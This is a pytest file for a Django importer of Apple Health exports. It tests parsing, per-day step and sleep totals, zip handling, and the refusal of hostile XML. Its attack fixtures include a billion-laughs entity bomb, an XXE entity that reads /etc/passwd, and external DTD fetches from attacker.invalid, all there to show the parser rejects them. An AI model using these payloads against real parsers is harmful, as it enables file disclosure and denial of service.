"""The Apple Health export provider: a sample export.xml with Apple's DOCTYPE (and one
with the broken DTD of export version 12) in tests/sources/files, zips built around it
here, read as streams into batches in the batch-ingest shape; days and nights as the
Health app shows them, from an export of an iPhone and a Watch worn together across
the night the clocks go back (apple_health_two_devices.xml); XML that would attack a
parser refused; and memory that stays flat however big the export is.

Measured (this machine, Python 3.12, expat 2.5.0, 100,000 records each with a
MetadataEntry, ~39 MB): about 150,000 records/s without tracemalloc (the
ElementTree-based parser before it: about 95,000), 18,000-25,000 under it; tracemalloc
peak about 2.7 MB. Summing steps into days costs about what one item a record does.
Run
`pytest tests/sources/test_apple_health.py -k "memory or throughput" -s` to see it again.
"""

import datetime as dt
import io
import re
import shutil
import time
import tracemalloc
import xml.etree.ElementTree as StdlibElementTree
import zipfile
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import defusedxml
import defusedxml.ElementTree
import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from pydantic import ValidationError

from measurements.models import Measurement
from measurements.orchestrators import prepare_rows
from measurements.units import convert
from sources.models import DataSource, RunStatus, SyncRun
from sources.orchestrators import sync
from sources.providers import Capability, PermanentError, Source, apple_health_days, get
from sources.providers.apple_health import (
    BATCH_SIZE,
    ENTITIES,
    MAX_DEPTH,
    MAX_NAMES,
    MAX_TOKEN_BYTES,
    NOT_AN_EXPORT,
    RATIO_GRACE_BYTES,
    STREAMS,
    TOKEN_TOO_LONG,
    AppleHealthExport,
    AppleHealthSettings,
    iso_time,
    stable_id,
)
from sources.providers.apple_health_days import TOO_MANY_TALLIES, merged, outside
from tests.factories import MetricFactory

FILES = Path(__file__).parent / "files"
SAMPLE = FILES / "apple_health_export.xml"
SAMPLE_V12 = FILES / "apple_health_export_v12.xml"
#: Europe/Berlin, 23 to 28 October 2026 (the clocks go back at 03:00 on the 25th):
#: an iPhone and an Apple Watch counting the same walks, the Watch's sleep stages
#: (and, one night, Sleep Cycle's over them), the iPhone's time in bed.
TWO_DEVICES = FILES / "apple_health_two_devices.xml"
EVERY_STREAM = {
    "body_mass": 1,
    "steps": 2,
    "walking_running_distance": 3,
    "active_energy": 4,
    "sleep": 5,
}
#: The metrics' own units, for `prepare_rows`.
UNITS = {1: "kg", 2: "steps", 3: "km", 4: "kcal", 5: "h"}
STEPS = STREAMS["steps"]
BODY_MASS = STREAMS["body_mass"]
SLEEP = STREAMS["sleep"]
WATCH = "Anna\u2019s Apple Watch"
PHONE = "Anna\u2019s iPhone"


def source(metrics=None, **fields) -> Source:
    settings = AppleHealthSettings(metrics=metrics or EVERY_STREAM, **fields)
    return Source(id=1, settings=settings)


def batches(path: Path, metrics=None, **fields):
    with path.open("rb") as upload:
        return list(AppleHealthExport().parse(source(metrics, **fields), upload))


def items(path: Path, metrics=None, **fields) -> list[dict]:
    return [item for batch in batches(path, metrics, **fields) for item in batch.items]


def values(path: Path, stream: str, **fields) -> dict[str, tuple[str, str, str]]:
    """external id → (value, measured_at, note) of one stream's items."""
    return {
        item["external_id"]: (item["value"], item["measured_at"], item["note"])
        for item in items(path, {stream: 1}, **fields)
    }


def refusal(path: Path, metrics=None) -> str:
    with pytest.raises(PermanentError) as caught:
        batches(path, metrics)
    return str(caught.value)


def export_zip(path: Path, xml: bytes | Path, *, name="apple_health_export/export.xml", **kw):
    """An export.zip as the Health app makes it: export.xml beside the clinical
    export_cda.xml and workout routes."""
    data = xml.read_bytes() if isinstance(xml, Path) else xml
    folder = name.rsplit("/", 1)[0] + "/" if "/" in name else ""
    cda = name.rsplit("/", 1)[-1].replace(".xml", "_cda.xml")
    with zipfile.ZipFile(path, "w", kw.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        archive.writestr(f"{folder}{cda}", b'<?xml version="1.0"?><ClinicalDocument/>' * 50)
        archive.writestr(name, data)
        archive.writestr(f"{folder}workout-routes/route_2026-11-20.gpx", b"<gpx/>")
    return path


def record(kind: str, value, start: str, *, unit="count", source_name="iPhone", end=None):
    return (
        f' <Record type="{kind}" sourceName="{source_name}" sourceVersion="18.1" '
        f'unit="{unit}" creationDate="{start}" startDate="{start}" '
        f'endDate="{end or start}" value="{value}"/>\n'
    )


def export(records: str, *, prolog: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{prolog}"
        '<HealthData locale="en_US">\n'
        ' <ExportDate value="2026-11-21 09:30:12 +0100"/>\n'
        f"{records}"
        "</HealthData>\n"
    ).encode()


def steps_export(path: Path, count: int, kind: str = STEPS) -> Path:
    """An export of `count` step records, one every 10 minutes (each with a
    MetadataEntry, as Apple writes many), or records of another `kind`, and, every
    tenth, an unmapped heart rate record; written as it goes."""
    start = dt.datetime(2020, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    with path.open("w", encoding="utf-8") as out:
        out.write(SAMPLE.read_text(encoding="utf-8").split("<HealthData", 1)[0])
        out.write('<HealthData locale="en_US">\n')
        for number in range(count):
            moment = (start + dt.timedelta(minutes=10 * number)).strftime("%Y-%m-%d %H:%M:%S %z")
            out.write(
                f' <Record type="{kind}" sourceName="{PHONE}" '
                f'sourceVersion="18.1" device="&lt;&lt;HKDevice: 0x280a1b2d0&gt;, '
                f'name:iPhone&gt;" unit="count" creationDate="{moment}" '
                f'startDate="{moment}" endDate="{moment}" value="{number % 900 + 1}">\n'
                '  <MetadataEntry key="HKWasUserEntered" value="0"/>\n'
                " </Record>\n"
            )
            if number % 10 == 0:
                out.write(record("HKQuantityTypeIdentifierHeartRate", 61, moment, unit="count/min"))
        out.write("</HealthData>\n")
    return path


# The provider and its settings ------------------------------------------------------------


def test_it_is_registered_as_a_file_importer():
    provider = get("apple_health")
    assert isinstance(provider, AppleHealthExport)
    assert provider.label == "Apple Health export"
    assert provider.capabilities == Capability.FILE_IMPORT
    assert provider.settings_model is AppleHealthSettings


def test_settings_map_known_streams_to_metrics():
    settings = AppleHealthSettings(metrics={"steps": 4, "sleep": 2, "body_mass": 4})
    assert settings.metric_ids == [2, 4]
    assert settings.sources == []
    assert set(STREAMS) == set(EVERY_STREAM)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (
            {"metrics": {"steps": 1, "heart_rate": 2}},
            "“heart_rate” is not a stream of an Apple Health export; the streams are: "
            "body_mass, steps, walking_running_distance, active_energy, sleep.",
        ),
        ({"metrics": {"Steps": 1, "weight": 2}}, "“Steps”, “weight” are not streams"),
        ({"metrics": {}}, "at least 1 item"),
        ({"metrics": {"steps": "many"}}, "valid integer"),
        ({"metrics": {"steps": 1}, "metric_id": 1}, "Extra inputs are not permitted"),
    ],
)
def test_settings_refuse(fields, message):
    with pytest.raises(ValidationError) as caught:
        AppleHealthSettings.model_validate(fields)
    assert message in str(caught.value)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-20 07:01:00 +0100", "2026-11-20T07:01:00+01:00"),
        ("2026-11-21 07:15:00 -0500", "2026-11-21T07:15:00-05:00"),
        ("2026-11-20 07:01:00 +0000", "2026-11-20T07:01:00+00:00"),
        ("2026-11-20T07:01:00+05:30", "2026-11-20T07:01:00+05:30"),
        ("2026-11-20 07:01:00", None),
        ("yesterday", None),
        ("", None),
        (None, None),
    ],
)
def test_iso_time(text, expected):
    assert iso_time(text) == expected


# The sample export ----------------------------------------------------------------------------


def test_the_sample_has_apples_doctype_which_defusedxml_accepts_as_it_is():
    """Apple's internal subset declares elements and attributes, no entities: the
    parser's defences leave it alone."""
    head = SAMPLE.read_text(encoding="utf-8")[:200]
    assert "<!DOCTYPE HealthData [" in head
    assert defusedxml.ElementTree.parse(SAMPLE).getroot().tag == "HealthData"


def test_records_of_mapped_types_become_items():
    read = items(SAMPLE)
    assert [(i["metric_id"], i["value"], i["unit"], i["measured_at"], i["note"]) for i in read] == [
        (1, "81.4", "kg", "2026-11-20T07:01:00+01:00", "Health"),
        # The second of two identical records is handed on once.
        (1, "179.2", "lb", "2026-11-21T07:15:00-05:00", "Withings"),
        # Once, although the blood pressure correlation holds it too.
        (1, "81.2", "kg", "2026-11-20T07:04:00+01:00", "Withings"),
        # Then, once the file is read, the days (dated at their last record, before
        # noon) and the nights (at the end of their last asleep stage).
        (4, "41.25", "kcal", "2026-11-20T08:09:02+01:00", WATCH),
        (2, "1011", "", "2026-11-20T08:09:02+01:00", WATCH),  # not the iPhone's 1032 too
        (3, "0.78312", "km", "2026-11-20T08:09:14+01:00", PHONE),
        (5, "7.5", "h", "2021-03-02T06:30:00+01:00", "AutoSleep"),
        (5, "4.008333", "h", "2026-11-20T03:10:00+01:00", WATCH),
    ]
    assert all(
        set(item) == {"metric_id", "value", "unit", "measured_at", "note", "external_id"}
        for item in read
    )


def test_external_ids_derive_from_the_record_or_its_day():
    first = items(SAMPLE)[0]
    assert re.fullmatch(r"ah-[0-9a-f]{20}", first["external_id"])
    assert first["external_id"] == stable_id(
        "HKQuantityTypeIdentifierBodyMass",
        "2026-11-20 07:01:00 +0100",
        "2026-11-20 07:01:00 +0100",
        "81.4",
        "Health",
    )
    ids = [item["external_id"] for item in items(SAMPLE)]
    assert len(set(ids)) == len(ids)
    assert ids[3:] == [
        "ah-active_energy-2026-11-20",
        "ah-steps-2026-11-20",
        "ah-walking_running_distance-2026-11-20",
        "ah-sleep-night-2021-03-02",
        "ah-sleep-night-2026-11-20",
    ]


def test_ids_are_stable_so_a_newer_export_adds_only_what_is_new(tmp_path):
    assert items(SAMPLE) == items(SAMPLE)
    newer = tmp_path / "export.xml"
    newer_record = record(
        "HKQuantityTypeIdentifierBodyMass", "80.9", "2026-11-22 07:00:00 +0100", unit="kg"
    )
    newer.write_text(
        SAMPLE.read_text(encoding="utf-8").replace("</HealthData>", newer_record + "</HealthData>"),
        encoding="utf-8",
    )
    before = {item["external_id"] for item in items(SAMPLE)}
    after = {item["external_id"]: item for item in items(newer)}
    assert before < after.keys()
    assert [after[key]["value"] for key in after.keys() - before] == ["80.9"]


def test_an_id_does_not_depend_on_the_metric_a_stream_feeds():
    assert [i["external_id"] for i in items(SAMPLE, {"steps": 2})] == [
        i["external_id"] for i in items(SAMPLE, {"steps": 9})
    ]


def test_unmapped_types_and_streams_are_skipped():
    read = items(SAMPLE, {"steps": 7})
    assert [(item["metric_id"], item["value"]) for item in read] == [(7, "1011")]
    assert items(SAMPLE, {"walking_running_distance": 3})[0]["value"] == "0.78312"


def test_sleep_counts_the_asleep_stages_in_hours_not_in_bed_or_awake():
    """Core 23:02-01:32 (across midnight), deep 01:32-02:17:30, awake, REM
    02:25-03:10: one night, on the morning it ends; the iPhone's 8 h 15 min in
    bed are not sleep."""
    assert values(SAMPLE, "sleep") == {
        "ah-sleep-night-2021-03-02": ("7.5", "2021-03-02T06:30:00+01:00", "AutoSleep"),
        "ah-sleep-night-2026-11-20": ("4.008333", "2026-11-20T03:10:00+01:00", WATCH),
    }


def test_sleep_without_a_positive_span_is_skipped(tmp_path):
    kind = "HKCategoryTypeIdentifierSleepAnalysis"
    asleep = "HKCategoryValueSleepAnalysisAsleepCore"
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(kind, asleep, "2026-11-20 02:00:00 +0100", end="2026-11-20 01:00:00 +0100")
            + record(kind, asleep, "2026-11-20 02:00:00 +0100")
            + record(kind, asleep, "2026-02-30 02:00:00 +0100", end="2026-03-01 02:00:00 +0100")
            + record(kind, asleep, "2026-11-20 02:00:00 +0100", end="2026-11-20 02:00:20 +0100")
        )
    )
    assert [item["value"] for item in items(path, {"sleep": 5})] == ["0.005556"]


def test_only_the_chosen_sources_when_some_are_chosen():
    read = items(SAMPLE, {"steps": 2, "walking_running_distance": 3}, sources=[WATCH])
    assert [(item["value"], item["note"]) for item in read] == [("1011", WATCH)]
    read = items(SAMPLE, {"steps": 2}, sources=[PHONE])
    assert [(item["value"], item["note"]) for item in read] == [("1032", PHONE)]


# Days and nights, as the Health app shows them -------------------------------------------------

NIGHTS = {
    # Core from 23:10 on the 23rd: the stage before midnight is part of this night.
    "ah-sleep-night-2026-10-24": ("7", "2026-10-24T06:20:00+02:00", WATCH),
    # 23:40 CEST to 07:20 CET is 8 h 40 min, not the 7 h 40 min the clock shows;
    # less 15 min awake. Sleep Cycle's record over it counts nothing more.
    "ah-sleep-night-2026-10-25": ("8.416667", "2026-10-25T07:20:00+01:00", WATCH),
    "ah-sleep-night-2026-10-26": ("7.5", "2026-10-26T06:35:00+01:00", WATCH),
    # The Watch was charging: Sleep Cycle's night, not the iPhone's time in bed.
    "ah-sleep-night-2026-10-27": ("7.5", "2026-10-27T06:50:00+01:00", "Sleep Cycle"),
}


def device_days(kind: str) -> dict[str, dict[str, Decimal]]:
    """Each device's own sum per day (of startDate) of one type, read from the file
    with another parser."""
    days: dict[str, dict[str, Decimal]] = {}
    for element in defusedxml.ElementTree.parse(TWO_DEVICES).getroot().findall("Record"):
        if element.get("type") == kind:
            own = days.setdefault(element.get("sourceName"), {})
            day = element.get("startDate")[:10]
            own[day] = own.get(day, Decimal(0)) + Decimal(element.get("value"))
    return days


def test_the_two_device_export_is_shaped_as_a_real_one():
    text = TWO_DEVICES.read_text(encoding="utf-8")
    assert "<!DOCTYPE HealthData [" in text and "<!ATTLIST Record" in text
    records = defusedxml.ElementTree.parse(TWO_DEVICES).getroot().findall("Record")
    assert {r.get("sourceName") for r in records} == {PHONE, WATCH, "Sleep Cycle", "Health"}
    offsets = {r.get("startDate")[-5:] for r in records}
    assert offsets == {"+0200", "+0100"}
    # Read by the day each stage starts, the first night would fall on two days.
    stages = [r for r in records if r.get("type") == SLEEP and r.get("sourceName") == WATCH]
    assert {r.get("startDate")[:10] for r in stages[:6]} == {"2026-10-23", "2026-10-24"}


def test_each_nights_sleep_is_one_value_on_the_morning_it_ends():
    assert values(TWO_DEVICES, "sleep") == NIGHTS


def test_steps_per_day_are_one_devices():
    """The device that recorded most that day: the Watch, worn with the iPhone, on
    three days (the iPhone counted about as many steps: added up they would be twice
    what the Health app shows); the iPhone alone while the Watch charged."""
    read = values(TWO_DEVICES, "steps")
    assert read == {
        "ah-steps-2026-10-24": ("6636", "2026-10-24T12:00:00+02:00", WATCH),
        # 30 + 25 steps in the hour from 02:00 that happened twice, both counted.
        "ah-steps-2026-10-25": ("7545", "2026-10-25T12:00:00+01:00", WATCH),
        # With a record from 23:55 to 00:05: counted on the day it starts.
        "ah-steps-2026-10-26": ("6505", "2026-10-26T12:00:00+01:00", WATCH),
        "ah-steps-2026-10-27": ("5250", "2026-10-27T12:00:00+01:00", PHONE),
    }
    own = device_days(STEPS)
    for external_id, (value, _, device) in read.items():
        assert Decimal(value) == own[device][external_id.removeprefix("ah-steps-")]
    assert own[PHONE]["2026-10-24"] + own[WATCH]["2026-10-24"] == 13238


def test_distance_and_energy_are_one_devices_too():
    assert values(TWO_DEVICES, "walking_running_distance") == {
        "ah-walking_running_distance-2026-10-24": ("2.00709", "2026-10-24T12:00:00+02:00", WATCH)
    }
    assert values(TWO_DEVICES, "active_energy") == {
        "ah-active_energy-2026-10-24": ("79.75", "2026-10-24T12:00:00+02:00", WATCH)
    }
    assert items(TWO_DEVICES, {"active_energy": 4})[0]["unit"] == "kcal"


def test_all_devices_added_up_when_asked():
    steps = values(TWO_DEVICES, "steps", devices="all")
    assert {key: value for key, (value, _, _) in steps.items()} == {
        "ah-steps-2026-10-24": "13238",
        "ah-steps-2026-10-25": "15088",
        "ah-steps-2026-10-26": "13005",
        "ah-steps-2026-10-27": "5250",
    }
    assert steps["ah-steps-2026-10-24"][2] == f"{WATCH}, {PHONE}"
    # Sleep is never added up: all devices' stages are joined, so Sleep Cycle's
    # record fills the Watch's 15 minutes awake, and nothing counts twice.
    sleep = values(TWO_DEVICES, "sleep", devices="all")
    assert sleep["ah-sleep-night-2026-10-25"][0] == "8.666667"
    assert sleep["ah-sleep-night-2026-10-24"] == NIGHTS["ah-sleep-night-2026-10-24"]


def test_one_device_by_name_however_its_apostrophe_is_typed():
    steps = values(TWO_DEVICES, "steps", sources=["anna's iphone"])
    assert {key: value for key, (value, _, _) in steps.items()} == {
        "ah-steps-2026-10-24": "6602",
        "ah-steps-2026-10-25": "7543",
        "ah-steps-2026-10-26": "6500",
        "ah-steps-2026-10-27": "5250",
    }
    assert values(TWO_DEVICES, "sleep", sources=[PHONE]) == {}


def test_overlapping_sleep_from_two_apps_is_counted_once(tmp_path):
    """The app ranked first counts in full; the other only outside its records."""
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(
                SLEEP,
                "HKCategoryValueSleepAnalysisAsleepUnspecified",
                "2026-11-19 23:00:00 +0100",
                end="2026-11-20 07:00:00 +0100",
                source_name="Pillow",
            )
            + record(
                SLEEP,
                "HKCategoryValueSleepAnalysisAsleepUnspecified",
                "2026-11-19 23:30:00 +0100",
                end="2026-11-20 07:30:00 +0100",
                source_name="AutoSleep",
            )
        )
    )
    assert values(path, "sleep") == {
        "ah-sleep-night-2026-11-20": ("8.5", "2026-11-20T07:30:00+01:00", "AutoSleep, Pillow")
    }


def test_a_nap_belongs_to_its_day_and_an_evening_to_the_next_morning(tmp_path):
    asleep = "HKCategoryValueSleepAnalysisAsleepCore"
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(SLEEP, asleep, "2026-11-20 14:00:00 +0100", end="2026-11-20 14:30:00 +0100")
            + record(SLEEP, asleep, "2026-11-20 18:05:00 +0100", end="2026-11-20 19:05:00 +0100")
        )
    )
    assert values(path, "sleep") == {
        "ah-sleep-night-2026-11-20": ("0.5", "2026-11-20T14:30:00+01:00", "iPhone"),
        "ah-sleep-night-2026-11-21": ("1", "2026-11-20T19:05:00+01:00", "iPhone"),
    }


def test_a_record_whose_value_cannot_be_summed_is_handed_on_alone_and_rejected(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(STEPS, 1000, "2026-11-20 07:00:00 +0100")
            + record(STEPS, "1e9999999", "2026-11-20 08:00:00 +0100")
            + record(STEPS, 20, "2026-11-20 09:00:00 +0100")
        )
    )
    read = items(path, {"steps": 2})
    assert [(item["value"], item["external_id"]) for item in read] == [
        ("1e9999999", stable_id(STEPS, *["2026-11-20 08:00:00 +0100"] * 2, "1e9999999", "iPhone")),
        ("1020", "ah-steps-2026-11-20"),
    ]
    rows, refused = prepare_rows(read, UNITS)
    assert [row.values.value for row in rows] == [Decimal("1020")]
    assert len(refused) == 1


def test_what_is_kept_across_the_file_is_bounded(tmp_path, monkeypatch):
    monkeypatch.setattr(apple_health_days, "MAX_TALLIES", 10)
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            "".join(record(STEPS, 5, f"2026-11-{day:02} 07:00:00 +0100") for day in range(1, 21))
        )
    )
    assert refusal(path, {"steps": 2}) == TOO_MANY_TALLIES


@pytest.mark.parametrize(
    ("intervals", "blocked", "expected"),
    [
        ([(0, 10)], [], [(0, 10)]),
        ([(0, 10)], [(2, 4), (6, 8)], [(0, 2), (4, 6), (8, 10)]),
        ([(0, 10)], [(-5, 3), (9, 20)], [(3, 9)]),
        ([(0, 10), (20, 30)], [(5, 25)], [(0, 5), (25, 30)]),
        ([(0, 10)], [(0, 10)], []),
    ],
)
def test_the_parts_of_a_night_outside_another_devices(intervals, blocked, expected):
    assert outside(intervals, blocked) == expected
    assert merged([(5, 7), (0, 2), (1, 3), (7, 9)]) == [(0, 3), (5, 9)]


def test_every_item_passes_the_ingest_checks_and_converts_to_the_metrics_units():
    rows, refused = prepare_rows(items(SAMPLE), UNITS)
    assert refused == []
    by_unit = {row.values.original_unit: row.values for row in rows if row.values.original_unit}
    assert by_unit["lb"].value == Decimal("81.283753")
    assert rows[0].values.measured_at == dt.datetime(2026, 11, 20, 6, 1, tzinfo=dt.UTC)
    assert rows[4].values.value == Decimal("1011")


@pytest.mark.parametrize(
    ("apple", "metric_unit", "value", "expected"),
    [("Cal", "kJ", "1", "4.184"), ("st", "kg", "12.5", "79.378665"), ("mi", "km", "1", "1.609344")],
)
def test_apples_unit_names_are_ones_pint_converts(apple, metric_unit, value, expected, tmp_path):
    path = tmp_path / "export.xml"
    kind = {"Cal": "ActiveEnergyBurned", "st": "BodyMass", "mi": "DistanceWalkingRunning"}[apple]
    path.write_bytes(
        export(
            record(
                f"HKQuantityTypeIdentifier{kind}", value, "2026-11-20 07:00:00 +0100", unit=apple
            )
        )
    )
    (item,) = items(path)
    assert convert(Decimal(item["value"]), item["unit"], metric_unit).value == Decimal(expected)


def test_the_broken_dtd_of_export_version_12_is_read():
    """iOS 16 wrote an ATTLIST it never closed: the standard library refuses the file;
    the provider blanks the internal subset out, which nothing here needs."""
    with pytest.raises(StdlibElementTree.ParseError):
        StdlibElementTree.parse(SAMPLE_V12)
    read = items(SAMPLE_V12)
    assert [(item["value"], item["unit"]) for item in read] == [("12.5", "stone"), ("912", "")]


def test_control_characters_xml_forbids_are_dropped(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            record(
                "HKQuantityTypeIdentifierStepCount",
                5,
                "2026-11-20 07:00:00 +0100",
                source_name="Anna\x0bs\x1f iPhone",
            )
        )
    )
    assert [item["note"] for item in items(path)] == ["Annas iPhone"]


def test_a_byte_order_mark_and_no_doctype_are_fine(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(
        b"\xef\xbb\xbf"
        + export(record("HKQuantityTypeIdentifierStepCount", 5, "2026-11-20 07:00:00 +0100"))
    )
    assert [item["value"] for item in items(path)] == ["5"]


def test_an_export_without_mapped_records_gives_no_batches(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(export(""))
    assert batches(path) == []


# Zips ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
def test_a_zip_is_read_like_its_export_xml(tmp_path, compression):
    path = export_zip(tmp_path / "export.zip", SAMPLE, compression=compression)
    read = batches(path)
    assert [item for batch in read for item in batch.items] == items(SAMPLE)
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("apple_health_export/export.xml").compress_size
    assert read[-1].progress == (size, size)


@pytest.mark.parametrize(
    "name",
    ["apple_health_export/exportar.xml", "export.xml", "Export/apple_health_export/Export.xml"],
)
def test_the_export_is_found_by_another_name_or_place(tmp_path, name):
    path = export_zip(tmp_path / "export.zip", SAMPLE, name=name)
    assert items(path) == items(SAMPLE)


def test_a_zip_without_an_export_is_refused(tmp_path):
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday/IMG_0001.jpg", b"\xff\xd8\xff")
        archive.writestr("holiday/export_cda.xml", b"<ClinicalDocument/>")
    assert "The zip holds no export.xml" in refusal(path)


def test_an_xml_file_that_is_not_an_export_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", b'<?xml version="1.0"?>\n<plist><dict/></plist>')
    assert refusal(path) == (
        "The XML file is not an Apple Health export: its root element is <plist>, not <HealthData>."
    )


def test_a_damaged_zip_is_refused(tmp_path):
    whole = export_zip(tmp_path / "export.zip", SAMPLE, compression=zipfile.ZIP_STORED)
    cut = tmp_path / "cut.zip"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    assert "The zip is damaged" in refusal(cut)
    # A changed digit keeps the XML well-formed: the checksum catches it at the end.
    flipped = tmp_path / "flipped.zip"
    flipped.write_bytes(whole.read_bytes().replace(b'value="81.4"', b'value="81.5"'))
    assert "The zip is damaged (Bad CRC-32" in refusal(flipped)
    garbage = tmp_path / "garbage.zip"
    garbage.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    assert "The zip is damaged" in refusal(garbage)


def test_an_encrypted_zip_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", SAMPLE)
    data = bytearray(path.read_bytes())
    # Set the "encrypted" flag of every entry, in its local and central headers.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + offset] |= 1
            start = data.find(signature, start + 4)
    path.write_bytes(bytes(data))
    assert refusal(path) == "The zip is encrypted; upload the export as it is."


# Files that are not exports, broken XML, and attacks --------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"   \n",
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"date,value\n2026-11-20,81.4\n",
        b"\x1f\x8b\x08",
    ],
)
def test_a_file_that_is_neither_zip_nor_xml_is_refused(tmp_path, content):
    path = tmp_path / "upload"
    path.write_bytes(content)
    assert refusal(path) == NOT_AN_EXPORT


@pytest.mark.parametrize(
    ("content", "where"),
    [
        (export(' <Record type="x" startDate="2026"></HealthData>\n'), "line 4,"),
        (export(' <Record type="x" value="1 < 2"/>\n'), "line 4"),
        (export(" <Record/>\n &nbsp;\n"), "line 5"),
    ],
)
def test_broken_xml_is_refused_with_where(tmp_path, content, where):
    path = tmp_path / "export.xml"
    path.write_bytes(content)
    message = refusal(path)
    assert message.startswith("The export's XML is broken at line ")
    assert where in message
    assert message.endswith("export again from the Health app.")


def test_a_truncated_export_names_its_last_line(tmp_path):
    path = tmp_path / "export.xml"
    content = SAMPLE.read_bytes()
    path.write_bytes(content[:-700])
    lines = content[:-700].count(b"\n") + 1
    assert f"broken at line {lines}," in refusal(path)


LAUGHS = """<!DOCTYPE HealthData [
 <!ELEMENT HealthData ANY>
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""
ATTACKS = {
    "billion laughs": (LAUGHS, "&lol9;"),
    "external entity": (
        '<!DOCTYPE HealthData [\n <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
        "&xxe;",
    ),
    "external parameter entity": (
        "<!DOCTYPE HealthData [\n"
        ' <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n %remote;\n]>\n',
        "x",
    ),
    "entity after Apple's declarations": (
        "<!DOCTYPE"
        + SAMPLE.read_text(encoding="utf-8").split("<!DOCTYPE", 1)[1].split("]>", 1)[0]
        + '<!ENTITY note "&#x26;#x26;">\n]>\n',
        "&note;",
    ),
}


def attack(path: Path, prolog: str, value: str) -> Path:
    path.write_bytes(
        export(
            record("HKQuantityTypeIdentifierStepCount", value, "2026-11-20 07:00:00 +0100"),
            prolog=prolog,
        )
    )
    return path


@pytest.mark.parametrize("name", ATTACKS)
def test_entity_declarations_are_refused(tmp_path, name):
    path = attack(tmp_path / "export.xml", *ATTACKS[name])
    assert refusal(path) == ENTITIES
    assert refusal(export_zip(tmp_path / "export.zip", path)) == ENTITIES


@pytest.mark.parametrize("name", ATTACKS)
def test_the_parser_refuses_entities_too_when_the_doctype_is_too_long_to_blank(tmp_path, name):
    """Past the first megabyte the DOCTYPE reaches the parser as it is, and the
    parser refuses the declarations, as defusedxml does."""
    prolog, value = ATTACKS[name]
    padded = prolog.replace("[\n", "[\n" + "<!-- pad -->\n" * 100_000, 1)
    path = attack(tmp_path / "export.xml", padded, value)
    with pytest.raises(defusedxml.DefusedXmlException):
        defusedxml.ElementTree.parse(path)
    assert refusal(path) == ENTITIES


def test_an_external_dtd_is_never_fetched(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the parser tried to fetch something")

    monkeypatch.setattr("socket.socket.connect", no_network)
    monkeypatch.setattr("urllib.request.urlopen", no_network)
    path = attack(
        tmp_path / "export.xml", '<!DOCTYPE HealthData SYSTEM "http://attacker.invalid/x.dtd">\n', 7
    )
    assert [item["value"] for item in items(path)] == ["7"]


def test_elements_nested_too_deep_are_refused(tmp_path):
    """The parser keeps every open element: a file that nests without end (a few
    compressed megabytes can unpack to millions) is refused."""
    path = tmp_path / "export.xml"
    path.write_bytes(export(" <Workout>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</Workout>\n"))
    assert refusal(path) == (
        f"The export nests elements more than {MAX_DEPTH} deep; it is not an Apple Health "
        "export we can read."
    )


def test_a_file_of_ever_new_names_is_refused(tmp_path):
    """The parser keeps every name it has seen (2 million of them took 600 MB)."""
    path = tmp_path / "export.xml"
    elements = "".join(f'<e{number} a{number}="1"/>' for number in range(MAX_NAMES))
    path.write_bytes(export(f" <Workout>{elements}</Workout>\n"))
    assert refusal(path) == (
        f"The export uses more than {MAX_NAMES:,} different names of elements and "
        "attributes; it is not an Apple Health export we can read."
    )


@pytest.mark.parametrize(
    "token",
    [
        ' <Record type="x" value="' + "a" * 200_000 + '"/>\n',
        " <Record " + "a" * 200_000 + '="1"/>\n',
        " <Record>" + " " * 200_000 + "</Record>\n",
        " " * 200_000,
        " <!-- " + "c" * 200_000 + " -->\n",
    ],
    ids=["attribute value", "name", "text", "whitespace", "comment"],
)
